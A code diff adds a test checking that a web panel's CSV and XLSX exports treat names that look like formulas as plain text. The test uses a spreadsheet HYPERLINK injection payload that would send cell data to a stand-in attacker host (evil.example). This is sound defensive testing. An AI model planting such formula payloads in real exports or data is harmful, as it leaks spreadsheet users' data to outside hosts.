@@ -93,6 +93,19 @@ def test_exports_follow_the_current_filters(client, users, login, network):
     assert sheet.max_row == 3 and sheet.cell(1, 9).value == "Progresso (%)"
 
 
+def test_exports_keep_names_that_look_like_formulas_as_text(client, users, login, network):
+    es = users["other_manager"].institution
+    es.name = '=HYPERLINK("https://evil.example/?"&A1,"Abrir")'
+    db.session.commit()
+    login(users["seges_admin"])
+    text = client.get("/painel.csv").get_data(as_text=True)
+    assert "'=HYPERLINK" in text
+    sheet = load_workbook(io.BytesIO(client.get("/painel.xlsx").data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row
+             if str(cell.value).startswith("=HYPERLINK")]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+
+
 def test_partners_cannot_see_the_panel(client, users, login, network):
     for role in ("partner_manager", "partner_member"):
         login(users[role])
